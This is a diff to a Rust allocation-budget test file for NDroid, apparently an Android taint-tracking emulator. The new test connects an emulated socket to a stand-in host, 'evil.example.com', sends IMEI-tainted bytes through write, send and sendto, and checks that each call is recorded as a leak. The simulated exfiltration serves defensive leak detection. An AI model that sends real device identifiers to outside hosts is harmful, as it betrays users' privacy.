@@ -1,6 +1,6 @@
 //! Allocation budgets of the paths NDroid runs on every event: a warm
-//! bytecode invoke, a warm Java→native→Java crossing, and a small
-//! `fread` from a large file.
+//! bytecode invoke, a warm Java→native→Java crossing, a small `fread`
+//! from a large file, and a sink call past the transfer cap.
 //!
 //! A counting global allocator tallies heap allocations (and
 //! reallocations) and the bytes they request, per thread, so tests
@@ -11,7 +11,7 @@
 
 use ndroid_apps::driver::gated_leak_app;
 use ndroid_core::{NDroidSystem, ProvenanceLevel, SystemConfig};
-use ndroid_emu::runtime::HostTable;
+use ndroid_emu::runtime::{HostTable, NativeCtx, MAX_TRANSFER};
 use ndroid_emu::testutil::{TrackOnly, World};
 use std::alloc::{GlobalAlloc, Layout, System};
 use std::cell::Cell;
@@ -92,10 +92,9 @@ fn warm_bytecode_invoke_allocates_nothing() {
 /// A `doSync` after `enableSync` crosses Java → native (`upload`) →
 /// libdvm and libc models, and leaks once. What it still allocates is
 /// the work it records: the contacts string, the `GetStringUTFChars`
-/// copy, the sink's `LeakEvent` and network-log entry, and the
-/// provenance events with their names. (It made 42 allocations before
-/// the crossing stopped copying method metadata and argument lists.)
-const DO_SYNC_BUDGET: u64 = 24;
+/// copy, the sent bytes (moved into the sink's `LeakEvent`, the one
+/// record of the call), and the provenance events with their names.
+const DO_SYNC_BUDGET: u64 = 20;
 
 #[test]
 fn warm_jni_crossing_stays_within_budget() {
@@ -128,4 +127,32 @@ fn small_fread_cost_does_not_grow_with_the_file() {
     let (big, small) = (fread_allocations(64 * 1024), fread_allocations(4 * 1024));
     assert_eq!(big, small, "(allocations, bytes) from a 64 KiB and a 4 KiB file");
     assert!(big.1 < 4 * 1024, "a 64-byte read allocated {} bytes", big.1);
+}
+
+/// A tainted `write`, `send` and `sendto` of one byte more than
+/// [`MAX_TRANSFER`] each send [`MAX_TRANSFER`] bytes (C's short write),
+/// are each recorded as a leak, and allocate one capped payload: no
+/// host buffer of the guest's size. The trace log is off, as in a
+/// quiet run; an enabled one keeps its own copy of each trace line.
+#[test]
+fn sink_calls_past_the_cap_send_the_cap_and_leak() {
+    use ndroid_libc::syscalls::{connect, send, sendto, socket, write};
+    let mut w = World::new(ndroid_dvm::Program::new(), HostTable::new(), TrackOnly);
+    w.trace = ndroid_emu::trace::TraceLog::disabled();
+    let (dest, buf) = (0x2000_0000, 0x2000_1000);
+    w.mem.write_cstr(dest, b"evil.example.com");
+    w.shadow.mem.set_range(buf, 4, ndroid_dvm::Taint::IMEI);
+    let fd = w.call_host(socket, &[]).unwrap();
+    assert_eq!(w.call_host(connect, &[fd, dest]), Ok(0));
+    let write = write as fn(&mut NativeCtx<'_>) -> _;
+    for (name, sink) in [("write", write), ("send", send), ("sendto", sendto)] {
+        let ((_, bytes), r) = allocations(|| w.call_host(sink, &[fd, buf, MAX_TRANSFER + 1, 0]));
+        assert_eq!(r, Ok(MAX_TRANSFER), "{name} sends the cap");
+        let cap = u64::from(MAX_TRANSFER);
+        assert!((cap..cap + 4 * 1024).contains(&bytes), "{name} allocated {bytes} bytes");
+        let event = w.kernel.events.last().unwrap();
+        assert!(event.is_leak(), "{name} is recorded as a leak");
+        assert_eq!(event.data.len(), MAX_TRANSFER as usize);
+    }
+    assert_eq!(w.kernel.events.len(), 3, "one record per sink call");
 }
